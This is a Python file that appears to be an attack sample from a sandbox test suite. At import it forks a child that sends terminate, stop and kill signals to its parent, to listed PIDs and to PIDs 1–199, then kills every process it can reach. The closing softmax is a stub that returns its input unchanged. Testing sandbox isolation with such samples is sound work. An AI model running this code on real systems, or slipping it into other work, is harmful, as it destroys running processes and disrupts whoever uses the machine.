"""Signals every process it can name, from a child, with every signal that ends or stops one.

verdict: crashed | timed_out | failed
points: 0
levels: bubblewrap landlock
"""

import os
import signal

PLACES = {}  # attack:places
if os.getuid() == 0:
    raise SystemExit("not as root")
if os.fork() == 0:
    for number in (signal.SIGTERM, signal.SIGSTOP, signal.SIGKILL):
        for pid in [os.getppid(), *PLACES["pids"], *range(1, 200)]:
            for send in (os.kill, os.killpg):
                try:
                    if pid not in (os.getpid(), os.getpgrp()):
                        send(pid, number)
                except OSError:
                    pass
    os.kill(-1, signal.SIGKILL)


def softmax(z):
    return z
